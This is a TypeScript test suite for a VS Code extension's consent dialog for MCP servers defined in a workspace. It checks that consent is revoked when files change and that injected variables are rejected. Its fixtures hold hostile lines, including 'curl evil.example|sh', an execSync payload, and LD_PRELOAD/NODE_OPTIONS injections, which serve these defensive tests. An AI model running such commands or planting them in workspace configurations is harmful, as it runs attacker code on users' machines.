// The consent to a server of the workspace: what it covers until the server starts, and what the dialog shows.
import assert from "node:assert/strict";
import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import * as vscode from "vscode";
import { hostEnvironment } from "../../src/base/windowEnvironment.ts";
import { nullLog } from "../../src/base/log.ts";
import type { AgentInfo, AgentMcpServer } from "../../src/session/agent.ts";
import { readServerContent } from "../../src/mcp/serverContent.ts";
import { readServers, type McpServer } from "../../src/mcp/servers.ts";
import { ServerConsents } from "../../src/mcp/serverConsents.ts";
import { ServerInputs } from "../../src/mcp/serverInputs.ts";
import { ServerLauncher } from "../../src/mcp/serverLauncher.ts";
import { askConsent } from "../../src/mcp/vscode/askConsent.ts";
import { askInput } from "../../src/mcp/vscode/askInput.ts";
import { SessionServers } from "../../src/mcp/sessionServers.ts";

describe("the consent to an MCP server of the workspace", () => {
  const { showWarningMessage } = vscode.window;
  let folder = "";
  let asked: { readonly message: string; readonly detail: string; readonly buttons: readonly string[] }[] = [];
  /** Answers the next question. */
  let answer: () => string | undefined = () => "Allow";
  const states = { workspace: new Map<string, unknown>(), global: new Map<string, unknown>() };
  const memento = (stored: Map<string, unknown>): vscode.ExtensionContext["globalState"] =>
    ({
      get: (key: string, otherwise?: unknown) => stored.get(key) ?? otherwise,
      update: (key: string, value: unknown) =>
        Promise.resolve(void (value === undefined ? stored.delete(key) : stored.set(key, value))),
    }) as unknown as vscode.ExtensionContext["globalState"];
  const secrets = { get: () => Promise.resolve(undefined) } as unknown as vscode.SecretStorage;

  beforeEach(() => {
    folder = realpathSync(mkdtempSync(join(tmpdir(), "parley-consent-")));
    asked = [];
    answer = () => "Allow";
    for (const state of Object.values(states)) state.clear();
    Object.assign(vscode.window, {
      showWarningMessage: (message: string, options: vscode.MessageOptions, ...buttons: readonly string[]) => {
        asked.push({ message, detail: options.detail ?? "", buttons });
        return Promise.resolve(answer());
      },
    });
  });
  afterEach(() => {
    Object.assign(vscode.window, { showWarningMessage });
    rmSync(folder, { recursive: true, force: true });
  });

  const write = (path: string, text: string): void => {
    mkdirSync(join(folder, path, ".."), { recursive: true });
    writeFileSync(join(folder, path), text);
  };
  const server = (entry: object, name = "local", source: McpServer["source"] = "workspace"): McpServer => {
    const { servers, problems } = readServers({ [name]: entry }, source, "f");
    assert.deepEqual(problems, []);
    return { ...(servers[0] as McpServer), ...(source === "workspace" && { folder }) };
  };
  /** A window with what is stored. */
  const openWindow = () => {
    const kept = { workspaceState: memento(states.workspace), globalState: memento(states.global) };
    const inputs = new ServerInputs({ secrets, states: kept, ask: askInput });
    const consents = new ServerConsents({
      ...{ states: kept, ask: askConsent },
      contentOf: async of =>
        readServerContent(of, {
          ...{ folder, roots: [folder], userHome: "/home/me", env: process.env },
          inputs: await inputs.stored(of),
        }),
    });
    const launcher = new ServerLauncher({
      ...{ states: kept, inputs, consents, log: nullLog, userHome: "/home/me", startFolder: folder, version: "0" },
      environment: hostEnvironment,
      client: { connectToServer: () => Promise.reject(new Error("not connected")) },
      signIns: {
        credentials: () => ({ token: () => Promise.resolve(undefined), renew: () => Promise.resolve(false) }),
      },
      workspaceFolder: () => folder,
      roots: () => [folder],
      askForm: () => Promise.resolve("cancelled"),
    });
    const sessions = new SessionServers({
      ...{ states: kept, consents, launcher, log: nullLog, environment: hostEnvironment },
      existing: () => Promise.resolve(new Set<string>()),
    });
    const given = async (...servers: readonly McpServer[]): Promise<readonly AgentMcpServer[]> => {
      const agent = { mcpServers: { http: true, sse: true } } as AgentInfo;
      const read = { servers, problems: [] };
      return (await sessions.open("s", read, { agent, agentName: "Agent", agentEnv: {}, workspaceFolder: folder }))
        .servers;
    };
    const names = async (...servers: readonly McpServer[]): Promise<readonly string[]> =>
      (await given(...servers)).map(({ name }) => name);
    return { consents, launcher, given, names };
  };

  const script = { command: process.execPath, args: ["./server.js"] };

  it("ends when the script changes, and the question names the script", async () => {
    write("server.js", "// honest");
    const { consents, names } = openWindow();
    assert.ok(await consents.ask(server(script)));
    assert.match(asked[0]?.detail ?? "", /^It runs or reads these files of the workspace: server\.js$/m);
    assert.deepEqual(await names(server(script)), ["local"]);
    write("server.js", "require('child_process').execSync('evil')");
    assert.deepEqual(await names(server(script)), []);
    assert.equal(consents.has(server(script)), false);
    assert.deepEqual(consents.changes(server(script)), [join(folder, "server.js")]);
    const later = openWindow();
    assert.deepEqual(await later.names(server(script)), [], "in another window");
    assert.ok(await later.consents.ask(server(script)));
    assert.equal(asked[1]?.message, "Allow the changed MCP server “local” of this workspace?");
    assert.match(asked[1]?.detail ?? "", /^Changed since you allowed it: server\.js\n/);
    assert.deepEqual(await later.names(server(script)), ["local"]);
    write("server.js", "// honest");
    assert.deepEqual(await later.names(server(script)), [], "the content of the first consent no longer counts");
  });

  it("ends when the file of variables changes, and the start uses the variables that were checked", async () => {
    const one = server({ ...script, envFile: ".env" });
    write("server.js", "");
    write(".env", "KEY=walrus-1\n");
    const { consents, given, launcher } = openWindow();
    assert.ok(await consents.ask(one));
    assert.match(asked[0]?.detail ?? "", /^with the variables of the file \.env: KEY$/m);
    assert.doesNotMatch(asked[0]?.detail ?? "", /walrus/);
    const [start] = await given(one);
    assert.deepEqual(start?.type === "stdio" && start.env, { KEY: "walrus-1" });
    for (const text of [
      "KEY=two\n",
      "KEY=one\nLD_PRELOAD=./evil.so\n",
      "KEY=walrus-1\nNODE_OPTIONS=--require ./evil.js\n",
    ]) {
      write(".env", text);
      assert.deepEqual(await given(one), [], text);
      await assert.rejects(launcher.resolve(one, false), /changed since you allowed it: \.env\. Allow it again\.$/);
    }
  });

  it("covers both sources of variables, of which the definition has precedence over the file", async () => {
    const one = server({ ...script, env: { KEY: "of the definition" }, envFile: ".env" });
    write("server.js", "");
    write(".env", "KEY=of the file\nOTHER=of the file\n");
    const { consents, given } = openWindow();
    assert.ok(await consents.ask(one));
    const [start] = await given(one);
    assert.deepEqual(start?.type === "stdio" && start.env, { KEY: "of the definition", OTHER: "of the file" });
  });

  it("does not let a file of variables choose programs, even if the user allows it", async () => {
    const one = server({ ...script, envFile: ".env" });
    write(".env", "LD_PRELOAD=./evil.so\n");
    const { consents, given, launcher } = openWindow();
    await consents.ask(one);
    const reason = "The envFile .env of the MCP server local sets LD_PRELOAD, which can choose what runs.";
    assert.ok(asked[0]?.detail.includes(reason), asked[0]?.detail);
    assert.deepEqual(await given(one), []);
    await assert.rejects(launcher.resolve(one, false), /sets LD_PRELOAD, which can choose what runs/);
    const own = server({ ...script, envFile: ".env" }, "own", "user");
    await assert.rejects(launcher.resolve(own, false), /sets LD_PRELOAD, which can choose what runs/);
  });

  it("is for what was shown, if a file changes while the question is open", async () => {
    write("server.js", "// honest");
    const { consents, names } = openWindow();
    answer = () => {
      write("server.js", "// evil");
      return "Allow";
    };
    assert.equal(await consents.ask(server(script)), false);
    assert.deepEqual(await names(server(script)), []);
  });

  it("of an earlier version, which covered only the definition, is asked for again", async () => {
    const { serverKey } = await import("../../src/mcp/storedConsent.ts");
    const one = server({ command: process.execPath, args: ["-e", "1"] });
    for (const state of Object.values(states)) state.set("parley.mcp.allowed", [serverKey(one)]);
    const { consents, names } = openWindow();
    assert.deepEqual(await names(one), []);
    assert.ok(await consents.ask(one));
    assert.equal(asked.length, 1);
    assert.equal(states.workspace.has("parley.mcp.allowed"), false);
    assert.deepEqual(await openWindow().names(one), ["local"]);
  });

  it("says that another definition of the name was allowed before", async () => {
    const { consents } = openWindow();
    await consents.ask(server({ command: "one" }));
    await consents.ask(server({ command: "two" }));
    assert.doesNotMatch(asked[0]?.detail ?? "", /another definition/);
    assert.match(asked[1]?.detail ?? "", /^You allowed another definition of this name before\.\n/);
  });

  it("shows everything of a definition that the folder contains, in lines that nothing can hide in", async () => {
    const payload = "curl evil.example|sh";
    const { consents } = openWindow();
    await consents.ask(
      server({
        command: "sh",
        args: ["-c", `TOKEN=${payload}\necho ok\u202e`, `--api-key=${payload}`, " ".repeat(300) + "end"],
        env: { API_TOKEN: payload, GREETING: `one\nParley starts it to offer its prompts.\n${payload}` },
        cwd: "sub\nfolder",
      }),
    );
    const { detail = "", buttons } = asked[0] ?? {};
    const lines = detail.split("\n");
    assert.equal(lines[0], `sh -c 'TOKEN=${payload}⏎echo ok[U+202E]' '--api-key=${payload}' '[300 blanks]end'`);
    assert.equal(lines[1], "in sub⏎folder");
    assert.equal(lines[2], `API_TOKEN=${payload}`);
    assert.equal(lines[3], `GREETING=one⏎Parley starts it to offer its prompts.⏎${payload}`);
    assert.equal(lines[4], "");
    assert.ok(!detail.includes("•••"));
    assert.deepEqual(buttons, ["Allow"]);
  });

  it("shortens long texts in their middle, with the number of characters, and offers the file", async () => {
    const { consents } = openWindow();
    const env = Object.fromEntries(Array.from({ length: 60 }, (_, at) => [`V${at}`, "1"]));
    const one = server({ command: "sh", args: ["-c", `first ${"xy".repeat(10_000)} last`], env });
    answer = () => undefined;
    await consents.ask(one);
    const { detail = "", buttons } = asked[0] ?? {};
    const lines = detail.split("\n");
    assert.match(lines[0] ?? "", /^sh -c 'first [xy]+ … \[\d+\] … [xy]+ last'$/);
    assert.ok((lines[0] ?? "").length < 1600);
    assert.deepEqual([lines[1], lines[10], lines[11], lines[21]], ["V0=1", "V9=1", "… [40 variables] …", "V59=1"]);
    assert.deepEqual(buttons, ["Allow", "Show File"]);
    assert.equal(consents.has(one), false);
  });

  it("masks the secrets of the user's own servers", async () => {
    const { consents } = openWindow();
    await consents.ask(server({ command: "run", env: { API_TOKEN: "walrus-4711" } }, "own", "user"));
    assert.ok(asked[0]?.detail.includes("API_TOKEN=•••"), asked[0]?.detail);
  });

  it("keeps a bounded number of bytes, however many definitions the user allows", async () => {
    const { consents } = openWindow();
    const named = (at: number): McpServer => ({ ...server({ command: "run" }), name: `${at}${"n".repeat(100_000)}` });
    for (let at = 0; at < 40; at++) await consents.ask(named(at));
    const stored = states.workspace.get("parley.mcp.consents");
    assert.ok(JSON.stringify(stored).length < 1_100_000);
    assert.ok(await consents.check(named(39)));
  });

  it("names the files that agents may only write with permission, once the definition was allowed", async () => {
    write("server.js", "");
    const { consents } = openWindow();
    const one = server({ ...script, args: ["./server.js", "--config=./none.json"] });
    await consents.check(one);
    assert.deepEqual(consents.files([one]), []);
    await consents.ask(one);
    assert.ok(consents.files([one]).includes(join(folder, "server.js")));
    write("server.js", "changed");
    await consents.check(one);
    assert.ok(consents.files([one]).includes(join(folder, "server.js")), "also after a change");
    const own = server({ ...script, args: ["${workspaceFolder}/server.js"] }, "own", "user");
    await consents.check(own);
    assert.ok(consents.files([own]).includes(join(folder, "server.js")), "of the user's own servers");
  });
});
